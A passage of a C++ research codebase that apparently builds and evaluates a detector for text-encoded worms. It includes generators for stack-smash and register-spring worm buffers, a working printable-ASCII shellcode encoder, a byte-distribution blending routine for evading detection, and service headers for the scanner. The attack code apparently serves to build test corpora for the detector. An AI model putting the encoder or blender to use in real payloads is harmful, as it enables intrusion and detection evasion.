                                util::Xoshiro256& rng) {
  util::ByteBuffer worm;
  // 0x90 sled with some polymorphic seasoning.
  util::ByteBuffer sled = make_polymorphic_sled(sled_length, rng);
  worm.insert(worm.end(), sled.begin(), sled.end());
  worm.insert(worm.end(), payload.bytes.begin(), payload.bytes.end());
  // Stack-smash return addresses pointing into the sled.
  const std::uint32_t ret = 0xBFFFF000u + static_cast<std::uint32_t>(
                                              rng.next_below(0x800));
  for (std::size_t i = 0; i < ret_repeats; ++i) util::append_le32(worm, ret);
  return worm;
}

util::ByteBuffer make_register_spring_worm(const Shellcode& payload,
                                           std::size_t junk_length,
                                           std::size_t ret_repeats,
                                           util::Xoshiro256& rng) {
  util::ByteBuffer worm;
  // Arbitrary protocol junk — no executable sled at all.
  for (std::size_t i = 0; i < junk_length; ++i) {
    worm.push_back(static_cast<std::uint8_t>(rng.next_below(256)));
  }
  // The register-spring address: a static "jmp esp" inside a loaded
  // module; the payload sits directly after the overwritten return slot.
  const std::uint32_t spring = 0x77E0B000u + static_cast<std::uint32_t>(
                                                 rng.next_below(0x1000));
  for (std::size_t i = 0; i < ret_repeats; ++i) {
    util::append_le32(worm, spring);
  }
  worm.insert(worm.end(), payload.bytes.begin(), payload.bytes.end());
  return worm;
}

}  // namespace mel::textcode
