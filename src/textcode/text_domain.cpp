#include "mel/textcode/text_domain.hpp"

namespace mel::textcode {

std::array<std::array<XorCell, 3>, 3> xor_closure_table() {
  std::array<std::array<XorCell, 3>, 3> table{};
  for (int a = util::kTextLow; a <= util::kTextHigh; ++a) {
    for (int b = util::kTextLow; b <= util::kTextHigh; ++b) {
      const auto part_a = static_cast<std::size_t>(
          text_part(static_cast<std::uint8_t>(a)));
      const auto part_b = static_cast<std::size_t>(
          text_part(static_cast<std::uint8_t>(b)));
      XorCell& cell = table[part_a][part_b];
      ++cell.pairs;
      const auto result = static_cast<std::uint8_t>(a ^ b);
      if (util::is_text_byte(result)) {
        ++cell.text_results;
      } else if (result <= 0x1F) {
        ++cell.low_results;
      }
    }
  }
  return table;
}

int xor_key_coverage(std::uint8_t key) {
  int covered = 0;
  for (int b = util::kTextLow; b <= util::kTextHigh; ++b) {
    if (util::is_text_byte(static_cast<std::uint8_t>(key ^ b))) ++covered;
  }
  return covered;
}

bool single_xor_key_exists() {
  // Key 0 is the identity — it "keeps text text" but encrypts nothing, so
  // the paper's question is about nontrivial keys.
  for (int key = 1; key <= 0xFF; ++key) {
    if (xor_key_coverage(static_cast<std::uint8_t>(key)) ==
        util::kTextDomainSize) {
      return true;
    }
  }
  return false;
}

}  // namespace mel::textcode
