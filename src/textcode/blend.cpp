#include "mel/textcode/blend.hpp"

#include <algorithm>
#include <cassert>
#include <cmath>

namespace mel::textcode {

util::ByteBuffer blend_to_distribution(
    util::ByteView worm, const traffic::ByteDistributionTable& target,
    const BlendOptions& options, util::Xoshiro256& rng) {
  assert(options.total_size >= worm.size());
  util::ByteBuffer blended(worm.begin(), worm.end());
  blended.reserve(options.total_size);

  // Deficit sampling: repeatedly append the byte whose observed frequency
  // lags its target the most, with light randomization to avoid visible
  // runs of one character.
  std::array<double, 256> counts{};
  for (std::uint8_t b : worm) counts[b] += 1.0;

  while (blended.size() < options.total_size) {
    // Among the top deficit bytes, pick one at random.
    const auto total = static_cast<double>(blended.size() + 1);
    std::uint8_t best[4] = {0, 0, 0, 0};
    double best_deficit[4] = {-1e9, -1e9, -1e9, -1e9};
    for (int b = 0; b < 256; ++b) {
      if (target[b] <= 0.0) continue;
      const double deficit = target[b] - counts[b] / total;
      for (int slot = 0; slot < 4; ++slot) {
        if (deficit > best_deficit[slot]) {
          for (int shift = 3; shift > slot; --shift) {
            best_deficit[shift] = best_deficit[shift - 1];
            best[shift] = best[shift - 1];
          }
          best_deficit[slot] = deficit;
          best[slot] = static_cast<std::uint8_t>(b);
          break;
        }
      }
    }
    const std::uint8_t chosen = best[rng.next_below(4)];
    blended.push_back(chosen);
    counts[chosen] += 1.0;
  }
  return blended;
}

double distribution_distance(util::ByteView payload,
                             const traffic::ByteDistributionTable& target) {
  const traffic::ByteDistributionTable observed =
      traffic::measure_distribution(payload);
  double distance = 0.0;
  for (int b = 0; b < 256; ++b) {
    distance += std::fabs(observed[b] - target[b]);
  }
  return distance;
}

}  // namespace mel::textcode
