#include "mel/textcode/encoder.hpp"

#include <cassert>

#include "mel/util/bytes.hpp"

namespace mel::textcode {

namespace {

constexpr std::uint8_t kMinImmByte = 0x21;  // '!' — printable, non-space.
constexpr std::uint8_t kMaxImmByte = 0x7E;  // '~'
constexpr int kMinTripleSum = 3 * kMinImmByte;  // 0x63
constexpr int kMaxTripleSum = 3 * kMaxImmByte;  // 0x17A

constexpr std::uint8_t kPushEsp = 0x54;  // 'T'
constexpr std::uint8_t kPopEcx = 0x59;   // 'Y'
constexpr std::uint8_t kAndEaxImm = 0x25;  // '%'
constexpr std::uint8_t kSubEaxImm = 0x2D;  // '-'
constexpr std::uint8_t kPushEax = 0x50;    // 'P'
constexpr std::uint8_t kJno = 0x71;        // 'q'
constexpr std::uint8_t kFiller = 0x20;     // ' ' (and [eax],ah pairs)
constexpr std::uint8_t kHopDistance = 0x20;  // Smallest text rel8.

constexpr std::uint32_t kZeroMask1 = 0x40404040;  // "@@@@"
constexpr std::uint32_t kZeroMask2 = 0x3F3F3F3F;  // "????"

/// Splits `total` into three addends drawn from the charset: a few
/// randomized attempts for polymorphism, then an exhaustive fallback for
/// sparse sets. Returns false when no decomposition exists.
bool split_three(int total, const ImmediateCharset& charset,
                 const std::vector<std::uint8_t>& values,
                 util::Xoshiro256& rng, std::uint8_t out[3]) {
  const int lo = charset.min_byte();
  const int hi = charset.max_byte();
  if (total < 3 * lo || total > 3 * hi) return false;
  for (int attempt = 0; attempt < 64; ++attempt) {
    const std::uint8_t a1 = values[rng.next_below(values.size())];
    const int rest = total - a1;
    if (rest < 2 * lo || rest > 2 * hi) continue;
    const std::uint8_t a2 = values[rng.next_below(values.size())];
    const int a3 = rest - a2;
    if (a3 < 0 || a3 > 0xFF ||
        !charset.contains(static_cast<std::uint8_t>(a3))) {
      continue;
    }
    out[0] = a1;
    out[1] = a2;
    out[2] = static_cast<std::uint8_t>(a3);
    return true;
  }
  // Exhaustive fallback (rare; sparse charsets or extreme totals).
  for (const std::uint8_t a1 : values) {
    for (const std::uint8_t a2 : values) {
      const int a3 = total - a1 - a2;
      if (a3 >= 0 && a3 <= 0xFF &&
          charset.contains(static_cast<std::uint8_t>(a3))) {
        out[0] = a1;
        out[1] = a2;
        out[2] = static_cast<std::uint8_t>(a3);
        return true;
      }
    }
  }
  return false;
}

void append_imm_instruction(util::ByteBuffer& out, std::uint8_t opcode,
                            std::uint32_t imm) {
  out.push_back(opcode);
  util::append_le32(out, imm);
}

}  // namespace

ImmediateCharset ImmediateCharset::standard() {
  ImmediateCharset charset;
  for (int b = kMinImmByte; b <= kMaxImmByte; ++b) charset.allowed[b] = true;
  return charset;
}

ImmediateCharset ImmediateCharset::excluding(std::string_view forbidden) {
  ImmediateCharset charset = standard();
  for (char c : forbidden) {
    charset.allowed[static_cast<std::uint8_t>(c)] = false;
  }
  return charset;
}

std::uint8_t ImmediateCharset::min_byte() const noexcept {
  for (int b = 0; b < 256; ++b) {
    if (allowed[b]) return static_cast<std::uint8_t>(b);
  }
  return 0;
}

std::uint8_t ImmediateCharset::max_byte() const noexcept {
  for (int b = 255; b >= 0; --b) {
    if (allowed[b]) return static_cast<std::uint8_t>(b);
  }
  return 0;
}

int ImmediateCharset::size() const noexcept {
  int count = 0;
  for (bool a : allowed) count += a;
  return count;
}

SubTriple solve_sub_triple(std::uint32_t value,
                           const ImmediateCharset& charset,
                           util::Xoshiro256& rng) {
  assert(charset.size() >= 8 && "charset too sparse for the solver");
  std::vector<std::uint8_t> values;
  for (int b = 0; b < 256; ++b) {
    if (charset.contains(static_cast<std::uint8_t>(b))) {
      values.push_back(static_cast<std::uint8_t>(b));
    }
  }

  // Need k1 + k2 + k3 == (0 - value) mod 2^32, all bytes in the charset.
  const std::uint32_t target_sum = 0u - value;
  std::uint8_t k[3][4];  // k[j][byte].
  int carry_in = 0;
  for (int byte = 0; byte < 4; ++byte) {
    const int digit = static_cast<int>((target_sum >> (8 * byte)) & 0xFF);
    // a1+a2+a3 + carry_in = digit + 256*carry_out; pick a feasible carry
    // (the final carry falls off the 32-bit sum, so both are acceptable
    // there too).
    std::uint8_t split[3];
    int first = rng.next_bernoulli(0.5) ? 1 : 0;
    bool solved = false;
    for (int attempt = 0; attempt < 2 && !solved; ++attempt) {
      const int carry_out = attempt == 0 ? first : 1 - first;
      const int t = digit + 256 * carry_out - carry_in;
      if (split_three(t, charset, values, rng, split)) {
        carry_in = carry_out;
        solved = true;
      }
    }
    assert(solved && "charset admits no decomposition for this byte");
    if (!solved) return SubTriple{};  // Release-mode safety net.
    for (int j = 0; j < 3; ++j) k[j][byte] = split[j];
  }
  const auto pack = [](const std::uint8_t bytes[4]) {
    return static_cast<std::uint32_t>(bytes[0]) |
           (static_cast<std::uint32_t>(bytes[1]) << 8) |
           (static_cast<std::uint32_t>(bytes[2]) << 16) |
           (static_cast<std::uint32_t>(bytes[3]) << 24);
  };
  SubTriple triple{pack(k[0]), pack(k[1]), pack(k[2])};
  assert(triple.k1 + triple.k2 + triple.k3 == target_sum);
  return triple;
}

SubTriple solve_sub_triple(std::uint32_t value, util::Xoshiro256& rng) {
  return solve_sub_triple(value, ImmediateCharset::standard(), rng);
}

util::ByteBuffer encode_text_worm(util::ByteView binary_payload,
                                  const TextWormOptions& options,
                                  util::Xoshiro256& rng) {
  // Pad to dwords with NOPs so the decoded image stays executable.
  util::ByteBuffer padded(binary_payload.begin(), binary_payload.end());
  while (padded.size() % 4 != 0) padded.push_back(0x90);

  const ImmediateCharset charset =
      ImmediateCharset::excluding(options.forbidden);
  const auto is_forbidden = [&options](std::uint8_t b) {
    return options.forbidden.find(static_cast<char>(b)) !=
           std::string::npos;
  };
  // The fixed opcodes of the scheme cannot be substituted; the caller's
  // forbidden set must leave them alone.
  for (std::uint8_t fixed : {kPushEsp, kPopEcx, kAndEaxImm, kSubEaxImm,
                             kPushEax}) {
    assert(!is_forbidden(fixed) && "forbidden set breaks the encoder");
    (void)fixed;
  }
  for (int shift = 0; shift < 32; shift += 8) {
    assert(!is_forbidden(
        static_cast<std::uint8_t>(options.ret_address >> shift)));
  }
  // Zero masks: prefer @@@@/????; fall back to any allowed AND-disjoint
  // text pair (m1 & m2 == 0 keeps EAX-zeroing exact).
  std::uint32_t mask1 = kZeroMask1;
  std::uint32_t mask2 = kZeroMask2;
  if (is_forbidden(0x40) || is_forbidden(0x3F)) {
    bool found = false;
    for (int a = 0x21; a <= 0x7E && !found; ++a) {
      if (is_forbidden(static_cast<std::uint8_t>(a))) continue;
      for (int b = 0x21; b <= 0x7E && !found; ++b) {
        if (is_forbidden(static_cast<std::uint8_t>(b))) continue;
        if ((a & b) != 0) continue;
        const auto repeat = [](int byte) {
          return static_cast<std::uint32_t>(byte) * 0x01010101u;
        };
        mask1 = repeat(a);
        mask2 = repeat(b);
        found = true;
      }
    }
    assert(found && "no AND-disjoint mask pair in the allowed charset");
  }

  util::ByteBuffer worm;
  // Printable sled: harmless single-byte text instructions. inc/dec of
  // non-stack registers and pushes — every suffix of the sled executes
  // without error into the decrypter.
  static constexpr std::uint8_t kTextSledBytes[] = {
      0x40, 0x41, 0x42, 0x43, 0x46, 0x47,  // inc eax..ebx, esi, edi
      0x48, 0x49, 0x4A, 0x4B, 0x4E, 0x4F,  // dec eax..ebx, esi, edi
      0x50, 0x51, 0x52, 0x53, 0x56, 0x57,  // push eax..ebx, esi, edi
  };
  std::vector<std::uint8_t> sled_bytes;
  for (std::uint8_t b : kTextSledBytes) {
    if (!is_forbidden(b)) sled_bytes.push_back(b);
  }
  if (!sled_bytes.empty()) {
    for (std::size_t i = 0; i < options.text_sled_length; ++i) {
      worm.push_back(sled_bytes[rng.next_below(sled_bytes.size())]);
    }
  }
  worm.push_back(kPushEsp);
  worm.push_back(kPopEcx);

  // Hop filler must itself decode validly in a linear sweep; spaces
  // (and [eax],ah pairs) by default, any sled byte otherwise.
  const bool hops_possible = !is_forbidden(kJno) &&
                             !is_forbidden(kHopDistance) &&
                             (!is_forbidden(kFiller) || !sled_bytes.empty());
  const std::uint8_t filler =
      is_forbidden(kFiller) && !sled_bytes.empty() ? sled_bytes[0] : kFiller;

  // Push the payload dword by dword, last first (the stack grows down).
  for (std::size_t block = padded.size() / 4; block-- > 0;) {
    const std::uint32_t dword = util::load_le32(padded, block * 4);
    append_imm_instruction(worm, kAndEaxImm, mask1);
    append_imm_instruction(worm, kAndEaxImm, mask2);
    if (options.jump_hops && hops_possible &&
        rng.next_bernoulli(options.hop_probability)) {
      // AND just cleared OF, so jno always hops the filler island.
      worm.push_back(kJno);
      worm.push_back(kHopDistance);
      worm.insert(worm.end(), kHopDistance, filler);
    }
    const SubTriple triple = solve_sub_triple(dword, charset, rng);
    append_imm_instruction(worm, kSubEaxImm, triple.k1);
    append_imm_instruction(worm, kSubEaxImm, triple.k2);
    append_imm_instruction(worm, kSubEaxImm, triple.k3);
    worm.push_back(kPushEax);
  }

  // Overwritten return-address tail (text-encodable spring address).
  for (std::size_t i = 0; i < options.ret_tail_dwords; ++i) {
    util::append_le32(worm, options.ret_address);
  }
  assert(util::is_text_buffer(worm));
  return worm;
}

util::ByteBuffer simulate_stack_decoder(util::ByteView text_worm) {
  // Concrete interpretation of the encoder's instruction subset with real
  // register/flag semantics.
  std::uint32_t eax = 0xDEADBEEF;  // Deliberate garbage at entry.
  bool overflow_flag = true;       // Garbage flags too.
  std::vector<std::uint32_t> stack;
  std::size_t pc = 0;

  while (pc < text_worm.size()) {
    const std::uint8_t opcode = text_worm[pc];
    if (opcode >= 0x40 && opcode <= 0x4F) {
      // Sled inc/dec: flags change but the decrypter re-clears EAX anyway.
      if ((opcode & 7) == 0) eax += (opcode < 0x48) ? 1 : -1;
      overflow_flag = false;  // Close enough: inc/dec of garbage.
      ++pc;
    } else if (opcode >= 0x51 && opcode <= 0x57 && opcode != kPushEsp) {
      stack.push_back(0xCAFE0000u + opcode);  // Sled push: garbage below
      ++pc;                                   // the payload (harmless).
    } else if (opcode == kPushEsp) {
      stack.push_back(0xBFFF0000);  // Marker; the value is never consumed
      ++pc;                         // as payload (popped right away).
    } else if (opcode == kPopEcx) {
      if (stack.empty()) return {};
      stack.pop_back();
      ++pc;
    } else if (opcode == kAndEaxImm || opcode == kSubEaxImm) {
      if (pc + 5 > text_worm.size()) break;
      const std::uint32_t imm = util::load_le32(text_worm, pc + 1);
      if (opcode == kAndEaxImm) {
        eax &= imm;
        overflow_flag = false;  // AND clears OF.
      } else {
        const std::uint32_t result = eax - imm;
        overflow_flag = (((eax ^ imm) & (eax ^ result)) >> 31) != 0;
        eax = result;
      }
      pc += 5;
    } else if (opcode == kPushEax) {
      stack.push_back(eax);
      ++pc;
    } else if (opcode == kJno) {
      if (pc + 2 > text_worm.size()) break;
      const std::uint8_t rel = text_worm[pc + 1];
      pc += 2;
      if (!overflow_flag) pc += rel;
    } else {
      // Reached the return-address tail (or an unmodeled byte): the
      // decrypter is done.
      break;
    }
  }

  // The stack top holds the payload's first dword; read downward.
  util::ByteBuffer payload;
  for (auto it = stack.rbegin(); it != stack.rend(); ++it) {
    util::append_le32(payload, *it);
  }
  return payload;
}

std::vector<Shellcode> text_worm_corpus(std::size_t count,
                                        std::uint64_t seed) {
  util::Xoshiro256 rng(seed);
  const std::vector<Shellcode>& binaries = binary_shellcode_corpus();
  std::vector<Shellcode> worms;
  worms.reserve(count);
  std::size_t variant = 0;
  while (worms.size() < count) {
    for (const Shellcode& binary : binaries) {
      if (worms.size() >= count) break;
      // A worm needs a real payload; the tiny exit(0) snippet stays in the
      // binary corpus for encoder tests but is not a worm.
      if (binary.bytes.size() < 16) continue;
      TextWormOptions options;
      options.text_sled_length = 48 + 24 * (variant % 5);
      options.jump_hops = (variant % 3 == 1);
      options.hop_probability = 0.2 + 0.1 * static_cast<double>(variant % 3);
      options.ret_tail_dwords = 24 + 8 * (variant % 4);
      Shellcode worm;
      worm.name = binary.name + "-text-v" + std::to_string(variant);
      worm.description = "text encoding of " + binary.name +
                         (options.jump_hops ? " (with jump hops)" : "");
      util::Xoshiro256 worm_rng = rng.split();
      worm.bytes = encode_text_worm(binary.bytes, options, worm_rng);
      worms.push_back(std::move(worm));
    }
    ++variant;
  }
  return worms;
}

}  // namespace mel::textcode
