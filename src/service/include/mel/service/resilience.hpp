#pragma once
// Overload-resilience primitives for the scan tiers.
//
// PR1 gave individual scans typed errors, deadlines and budgets; PR3
// gave the service the metrics to *see* saturation. This layer is what
// *acts* on overload, so an inline detector (the paper's DAWN
// deployment sits on a live web/mail path) stays correct and responsive
// when demand exceeds capacity instead of queueing without bound:
//
//   * AdmissionController — a deterministic token bucket (sustained
//     rate + burst), a concurrency cap, and queue-depth load shedding.
//     Excess work is refused up front with a typed kUnavailable status
//     carrying a computed retry-after hint; admitted work is never
//     queued behind work the service cannot finish in time.
//   * CircuitBreaker — closed -> open -> half-open with a bounded probe
//     count, driven by the failure/degraded rate over a sliding window
//     of outcomes. When the scan path itself is sick (error storm,
//     alloc failures), the breaker rejects instantly instead of letting
//     every caller discover the failure at full cost.
//   * RetryOptions / RetrySchedule — decorrelated-jitter exponential
//     backoff (seeded util::Xoshiro256, deterministic per stream id),
//     honoring util::is_retryable(Status), Status::retry_after() hints
//     and the remaining deadline budget. Used by BatchScanService for
//     transient per-item failures.
//   * ServiceState — the health/lifecycle state machine shared by
//     ScanService and BatchScanService:
//     kStarting -> kServing <-> kDegraded -> kDraining -> kStopped.
//
// All time comparisons go through util::fault::now() (steady clock plus
// injected skew), so every transition — token refill, breaker reopen —
// is drivable from tests via fault::advance_clock without sleeping.
//
// Thread-safety: AdmissionController and CircuitBreaker may be hammered
// from any number of scan threads (internal mutex / atomics); the
// *_config() accessors are immutable after construction. RetrySchedule
// is a per-call-site value type — one instance per logical operation,
// not shared.

#include <atomic>
#include <chrono>
#include <cstdint>
#include <functional>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "mel/obs/metrics.hpp"
#include "mel/util/rng.hpp"
#include "mel/util/status.hpp"

namespace mel::service {

// --- Lifecycle ------------------------------------------------------------

/// Health/lifecycle of a scan service. kDegraded is a *health* signal
/// (still serving, but the circuit breaker is open or probing);
/// kDraining and kStopped refuse new admissions with kUnavailable.
enum class ServiceState : std::uint8_t {
  kStarting = 0,  ///< Constructed, not yet accepting work.
  kServing,       ///< Normal operation.
  kDegraded,      ///< Serving, but the breaker is open/half-open.
  kDraining,      ///< drain() in progress: finishing in-flight work only.
  kStopped,       ///< Drained; every request is refused.
};
inline constexpr std::size_t kServiceStateCount = 5;

/// Stable lowercase name for logs, metrics and test assertions.
[[nodiscard]] std::string_view service_state_name(ServiceState state) noexcept;

// --- Admission control ----------------------------------------------------

struct AdmissionConfig {
  /// Sustained admissions per second (token-bucket refill rate).
  /// 0 disables the rate limit.
  double rate_per_sec = 0.0;
  /// Token-bucket capacity: the burst admitted above the sustained rate.
  /// Must be >= 1 when rate_per_sec > 0.
  double burst = 1.0;
  /// Hard cap on concurrently admitted (in-flight) requests.
  /// 0 disables the cap.
  std::size_t max_concurrent = 0;
  /// Shed when the backing queue (see set_queue_depth_probe) holds more
  /// than this many pending items. 0 disables queue shedding.
  std::size_t max_queue_depth = 0;
  /// Retry-after hint attached to concurrency/queue-depth refusals,
  /// where no refill time can be computed. Rate-limit refusals compute
  /// the exact token refill time instead.
  std::chrono::nanoseconds retry_after_hint = std::chrono::milliseconds(10);

  [[nodiscard]] util::Status validate() const;
};

/// Combines the three shedding rules; every refusal is a typed
/// kUnavailable carrying a retry-after hint. With the default config
/// every rule is disabled and try_admit always succeeds — the
/// controller then costs one atomic increment per scan.
class AdmissionController {
 public:
  explicit AdmissionController(AdmissionConfig config = {});

  /// Move support for StatusOr-returning factories higher up. Moving
  /// while requests are in flight is outside the contract.
  AdmissionController(AdmissionController&& other) noexcept;

  /// RAII in-flight slot: released on destruction. Move-only.
  class Permit {
   public:
    Permit() = default;
    Permit(Permit&& other) noexcept : controller_(other.controller_) {
      other.controller_ = nullptr;
    }
    Permit& operator=(Permit&& other) noexcept {
      release();
      controller_ = other.controller_;
      other.controller_ = nullptr;
      return *this;
    }
    ~Permit() { release(); }

   private:
    friend class AdmissionController;
    explicit Permit(AdmissionController* controller)
        : controller_(controller) {}
    void release() noexcept;
    AdmissionController* controller_ = nullptr;
  };

  /// Admits or sheds one request: OK plus a Permit, or kUnavailable
  /// with a retry-after hint (token refill time for rate shedding,
  /// retry_after_hint otherwise). Check order: lifecycle concerns stay
  /// with the service; here it is queue depth, then concurrency, then
  /// the token bucket — so a request shed on queue/concurrency never
  /// consumes a token.
  [[nodiscard]] util::StatusOr<Permit> try_admit();

  /// Queue-depth signal for max_queue_depth (e.g. the batch tier wires
  /// its ThreadPool::queue_depth here). Set before serving traffic;
  /// the probe must be safe to call from any scan thread.
  void set_queue_depth_probe(std::function<std::size_t()> probe);

  /// Registers shed/admit counters and the in-flight/queue-depth gauges
  /// as `<prefix>_...`. Call once before serving; without it the
  /// handles stay detached and instrumentation is free.
  void bind_metrics(obs::MetricsRegistry& registry,
                    const std::string& prefix = "mel_admission");

  [[nodiscard]] const AdmissionConfig& config() const noexcept {
    return config_;
  }
  [[nodiscard]] std::size_t in_flight() const noexcept {
    return in_flight_.load(std::memory_order_relaxed);
  }
  /// Monotone totals (relaxed snapshots).
  [[nodiscard]] std::uint64_t admitted() const noexcept {
    return admitted_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t shed() const noexcept {
    return shed_rate_.load(std::memory_order_relaxed) +
           shed_concurrency_.load(std::memory_order_relaxed) +
           shed_queue_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t shed_rate() const noexcept {
    return shed_rate_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t shed_concurrency() const noexcept {
    return shed_concurrency_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t shed_queue() const noexcept {
    return shed_queue_.load(std::memory_order_relaxed);
  }

 private:
  void release_permit() noexcept;

  AdmissionConfig config_;
  std::function<std::size_t()> queue_depth_probe_;

  /// Token bucket state, guarded: tokens_ and last_refill_ must move
  /// together. Admission is O(ns) under this lock; scans are O(us-ms).
  std::mutex bucket_mutex_;
  double tokens_ = 0.0;
  std::chrono::steady_clock::time_point last_refill_;

  std::atomic<std::size_t> in_flight_{0};
  std::atomic<std::uint64_t> admitted_{0};
  std::atomic<std::uint64_t> shed_rate_{0};
  std::atomic<std::uint64_t> shed_concurrency_{0};
  std::atomic<std::uint64_t> shed_queue_{0};

  obs::Counter admitted_counter_;
  obs::Counter shed_rate_counter_;
  obs::Counter shed_concurrency_counter_;
  obs::Counter shed_queue_counter_;
  obs::Gauge in_flight_gauge_;
  obs::Gauge queue_depth_gauge_;
};

// --- Circuit breaker ------------------------------------------------------

enum class BreakerState : std::uint8_t { kClosed = 0, kOpen, kHalfOpen };

[[nodiscard]] std::string_view breaker_state_name(BreakerState state) noexcept;

struct CircuitBreakerConfig {
  /// Master switch: a disabled breaker admits everything and records
  /// nothing (the default, preserving pre-resilience behavior).
  bool enabled = false;
  /// Sliding window of most recent outcomes the failure rate is
  /// computed over. Must be >= 1 when enabled.
  std::size_t window = 32;
  /// Outcomes required in the window before the breaker may trip —
  /// prevents one early failure from reading as a 100% failure rate.
  std::size_t min_samples = 8;
  /// Open when failures/window_samples >= this ratio (in (0, 1]).
  double failure_ratio = 0.5;
  /// How long an open breaker rejects before moving to half-open.
  std::chrono::nanoseconds open_for = std::chrono::milliseconds(100);
  /// Probes admitted in half-open (bounded — the "thundering herd of
  /// probes" is itself an overload). All must succeed to close; one
  /// failure reopens. Must be >= 1 when enabled.
  std::size_t half_open_probes = 2;
  /// Count degraded verdicts as failures. A detector answering only on
  /// its fallback path is sick even though it answers.
  bool degraded_is_failure = true;

  [[nodiscard]] util::Status validate() const;
};

/// Per-service breaker: closed -> open on failure-rate trip, open ->
/// half-open after open_for, half-open -> closed after
/// half_open_probes successes (any probe failure reopens). All
/// transitions read util::fault::now(), so tests drive them with
/// fault::advance_clock.
class CircuitBreaker {
 public:
  explicit CircuitBreaker(CircuitBreakerConfig config = {});
  CircuitBreaker(CircuitBreaker&& other) noexcept;

  /// OK to proceed, or kUnavailable with retry-after = time until the
  /// breaker re-opens for probes. Callers that proceed MUST call
  /// record() with the outcome; half-open slots leak otherwise.
  [[nodiscard]] util::Status try_acquire();

  /// Reports one outcome of an acquired call.
  void record(bool success);

  [[nodiscard]] BreakerState state() const noexcept {
    return state_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] const CircuitBreakerConfig& config() const noexcept {
    return config_;
  }
  /// Monotone counts of state transitions and open-state rejections.
  [[nodiscard]] std::uint64_t transitions() const noexcept {
    return transitions_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t rejections() const noexcept {
    return rejections_.load(std::memory_order_relaxed);
  }

  /// Registers transition/rejection counters and the state gauge as
  /// `<prefix>_...`.
  void bind_metrics(obs::MetricsRegistry& registry,
                    const std::string& prefix = "mel_breaker");

 private:
  void transition_locked(BreakerState to);

  CircuitBreakerConfig config_;
  std::mutex mutex_;
  std::atomic<BreakerState> state_{BreakerState::kClosed};
  /// Ring buffer of outcomes (1 = failure) with an incremental failure
  /// count, so record() is O(1).
  std::vector<std::uint8_t> window_;
  std::size_t window_next_ = 0;
  std::size_t window_filled_ = 0;
  std::size_t window_failures_ = 0;
  std::chrono::steady_clock::time_point opened_at_;
  std::size_t probes_issued_ = 0;
  std::size_t probes_succeeded_ = 0;
  std::atomic<std::uint64_t> transitions_{0};
  std::atomic<std::uint64_t> rejections_{0};

  obs::Counter transition_counters_[3 * 3];  ///< [from][to], sparse.
  obs::Counter rejections_counter_;
  obs::Gauge state_gauge_;
};

// --- Retry policy ---------------------------------------------------------

struct RetryOptions {
  /// Total attempts including the first; 1 disables retries.
  std::size_t max_attempts = 1;
  /// Decorrelated-jitter base; also the minimum backoff.
  std::chrono::nanoseconds base_backoff = std::chrono::milliseconds(1);
  /// Backoff ceiling.
  std::chrono::nanoseconds max_backoff = std::chrono::milliseconds(100);
  /// Seed of the jitter stream; each RetrySchedule derives a per-stream
  /// generator from (seed, stream), so batch item i retries with the
  /// same delays at any worker count.
  std::uint64_t seed = 2008;

  [[nodiscard]] util::Status validate() const;
};

/// Backoff schedule for ONE logical operation (one batch item): asks
/// "may I retry, and after how long?" after each failure. Decorrelated
/// jitter (min(cap, uniform[base, 3 * previous])) from a seeded
/// Xoshiro256 — deterministic per (options.seed, stream).
class RetrySchedule {
 public:
  RetrySchedule(const RetryOptions& options, std::uint64_t stream) noexcept;

  /// Decides the next attempt after a failure. Returns the backoff to
  /// wait (>= the status's own retry_after() hint when one is set), or
  /// a zero-less signal via has_value() == false when the operation
  /// must not be retried: status not retryable, attempts exhausted, or
  /// the remaining deadline budget cannot absorb the backoff.
  /// `remaining_budget` < 0 means "no budget constraint".
  [[nodiscard]] std::optional<std::chrono::nanoseconds> next(
      const util::Status& status,
      std::chrono::nanoseconds remaining_budget) noexcept;

  [[nodiscard]] std::size_t attempts_started() const noexcept {
    return attempt_;
  }

 private:
  RetryOptions options_;
  util::Xoshiro256 rng_;
  std::chrono::nanoseconds previous_;
  std::size_t attempt_ = 1;  ///< The first attempt is underway.
};

}  // namespace mel::service
