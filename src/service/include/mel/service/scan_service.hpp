#pragma once
// Fault-tolerant scanning front-end around MelDetector/StreamDetector.
//
// The core detector is a pure function: payload in, verdict out. A
// production gateway needs more: per-scan deadlines and work budgets,
// payload size caps, bounded stream buffering with backpressure, and a
// defined answer for every failure mode. ScanService supplies that
// plumbing and a graceful-degradation ladder:
//
//   1. Normal: full statistical scan, verdict as from MelDetector.
//   2. Degraded: the decode budget tripped mid-scan (mel is a lower
//      bound) or parameter estimation was degenerate (no statistical
//      threshold exists) — the verdict is re-decided against the
//      configured fixed `degraded_threshold` and flagged
//      Verdict::degraded so it can never masquerade as full-fidelity.
//   3. Rejected: the request cannot be answered at all — payload over
//      the cap (kPayloadTooLarge), deadline passed (kDeadlineExceeded),
//      buffering/allocation limits (kResourceExhausted). The caller gets
//      a typed util::Status, never a crash and never a silent verdict.
//
// With no limits configured and fault injection disarmed, scan() is a
// transparent wrapper: verdicts are identical to MelDetector::scan().
//
// Thread-safety contract: scan() is const and safe to call from any
// number of threads on one ScanService — the detector is immutable, the
// stats counters are atomics, and scan ids come from an atomic counter
// (BatchScanService fans a shared instance across its pool). The stream
// session (stream_feed/stream_finish) is stateful by nature — one
// logical byte stream — and requires external serialization per service
// instance.

#include <array>
#include <atomic>
#include <chrono>
#include <string>
#include <vector>

#include "mel/core/detector.hpp"
#include "mel/core/stream_detector.hpp"
#include "mel/util/status.hpp"

namespace mel::service {

struct ServiceConfig {
  core::DetectorConfig detector;

  /// Payloads larger than this are refused with kPayloadTooLarge
  /// (0 = unlimited).
  std::uint64_t max_payload_bytes = 0;
  /// Per-scan decode budget and wall-clock deadline (zero = unlimited).
  core::ScanBudget budget;
  /// Fixed fallback threshold for degraded verdicts. The default sits at
  /// the paper's tau for the 4K evaluation point; calibrate it like a
  /// fixed-threshold detector (it is one, on the fallback path).
  double degraded_threshold = 40.0;

  /// Stream-session knobs (ScanService::stream_feed).
  std::size_t stream_window_size = 4096;
  std::size_t stream_overlap = 1024;
  /// Hard cap on pending stream bytes; a batch that would exceed it is
  /// refused with kResourceExhausted (backpressure).
